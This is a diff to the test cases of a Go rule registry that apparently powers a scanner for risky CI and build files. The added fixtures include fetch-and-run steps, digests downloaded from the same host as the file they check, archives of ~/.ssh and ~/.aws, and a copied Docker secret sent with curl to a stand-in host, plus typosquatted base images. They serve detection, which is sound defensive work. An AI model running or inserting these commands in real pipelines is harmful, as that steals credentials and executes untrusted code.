@@ -71,6 +71,8 @@ var registry = []Rule{
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
+		// A Jenkinsfile's load evaluates the Groovy file a sh step fetched.
+		{"Jenkinsfile", "node {\n  sh 'curl -sSfL https://x.invalid/ci.groovy -o ci.groovy'\n  def ci = load 'ci.groovy'\n}", 3, false},
 		{"x.bat", "certutil.exe -urlcache -split -f http://x.invalid/sdd.dll sdd.dll\nregsvr32.exe -s sdd.dll", 2, false},
 		{"x.sh", "wget -qO- https://x.invalid/s | sh -s -- --quiet", 0, false},
 		// Anyone's repository on a forge is not a vendor's host.
@@ -123,6 +125,9 @@ var registry = []Rule{
 		// Printing a digest checks nothing; checking one file leaves another unchecked.
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\nsha256sum i.sh\nbash i.sh", 3, false},
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\ncurl -fsSLo t.tgz https://x.invalid/t.tgz\necho \"$SHA  t.tgz\" | sha256sum -c -\nbash i.sh", 4, false},
+		// A digest downloaded beside the file, from the same place, checks nothing.
+		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\nSUM=$(curl -s https://x.invalid/i.sh.sha256)\necho \"$SUM  i.sh\" | sha256sum -c -\nbash i.sh", 4, false},
+		{"Dockerfile", "FROM alpine\nRUN curl -fsSLo /tmp/i.sh https://x.invalid/i.sh \\\n  && echo \"$(curl -s https://x.invalid/i.sh.sha256)  /tmp/i.sh\" | sha256sum -c - \\\n  && sh /tmp/i.sh", 4, false},
 	}},
 	{"indirect-run", KindDecodeExec, High, "pipes eval's output into a shell, or data into eval",
 		"the command that runs is assembled at run time from variables (as the xz backdoor's build script did), so the diff does not show it", []Case{
@@ -212,6 +217,9 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// Credential folders archived whole, and a BuildKit secret mount copied out.
+			{"x.sh", "tar czf h.tgz ~/.ssh ~/.aws\ncurl -T h.tgz https://x.invalid/u", 2, false},
+			{"Dockerfile", "FROM node:20\nRUN --mount=type=secret,id=npmrc cp /run/secrets/npmrc /tmp/n\nRUN curl -sT /tmp/n https://x.invalid/u", 3, false},
 			// Sent a line at a time: what read takes from the file is what the file held.
 			{"x.sh", "env > e.txt\nwhile IFS= read -r line; do\n  curl -s \"https://x.invalid/c?d=$line\"\ndone < e.txt", 3, false},
 			// Azure Pipelines' macros are the variables' values: the job's token written out and sent.
@@ -606,6 +614,10 @@ var registry = []Rule{
 			{".gitlab-ci.yml", "test:\n  image:\n    name: pyth0n-official/python:3.12\n    entrypoint: [\"\"]", 3, false},
 			{".buildkite/pipeline.yml", "steps:\n  - plugins:\n      - buildkite-plugin/docker#v5.9.0:\n          image: node:20", 3, false},
 			{"docker-compose.yml", "services:\n  app:\n    build:\n      context: .\n      args:\n        BASE_IMAGE: nodejs-official/node:20", 6, false},
+			{".devcontainer/devcontainer.json", "{\n  \"build\": {\n    \"args\": {\n      \"BASE_IMAGE\": \"pyth0n-official/python:3.12\",\n      \"VARIANT\": \"3.12\"\n    }\n  }\n}", 4, false},
+			{".woodpecker.yml", "steps:\n  - name: build\n    image: pyth0n-official/python:3.12", 3, false},
+			{"build.sh", "docker build --build-arg BASE_IMAGE=pyth0n-official/python:3.12 -t app .", 0, false},
+			{"build.sh", "docker buildx build --build-arg=BASE_IMAGE=docker.io/library/node:20 --build-arg VERSION=1.2 -t app .", 0, true},
 			{"Dockerfile", "ARG GO_VERSION=1.23\nARG BASE_IMAGE=docker.io/library/golang:1.23\nFROM ${BASE_IMAGE} AS build\nFROM golang:${GO_VERSION}\nFROM ${RUNTIME_IMAGE}", 0, true},
 		}},
 	{"ci-remote-config", KindCIFile, High, "takes pipeline configuration from outside the repository at run time",
@@ -618,6 +630,7 @@ var registry = []Rule{
 			{"azure-pipelines.yml", "resources:\n  repositories:\n    - repository: templates\n      type: github\n      name: someone/pipeline-templates\n      endpoint: gh\nextends:\n  template: build.yml@templates", 5, false},
 			{"Jenkinsfile", "library identifier: 'ci@main', retriever: modernSCM(\n  [$class: 'GitSCMSource', remote: 'https://git.x.invalid/ci/pipeline-lib.git'])", 2, false},
 			{".gitlab-ci.yml", "variables:\n  TEMPLATES: https://ci.x.invalid/templates\ninclude:\n  - remote: $TEMPLATES/python.yml", 4, false},
+			{".gitlab-ci.yml", "include: { remote: 'https://ci.x.invalid/python.yml' }", 1, false},
 			{".buildkite/pipeline.yml", "steps:\n  - command: make test\n    plugins:\n      - docker#v5.9.0:\n          image: node:20\n      - someone/deploy-helper#main: ~", 6, false},
 			// A reusable workflow of another owner than the one the file
 			// names as its own, at a tag, handed every secret.
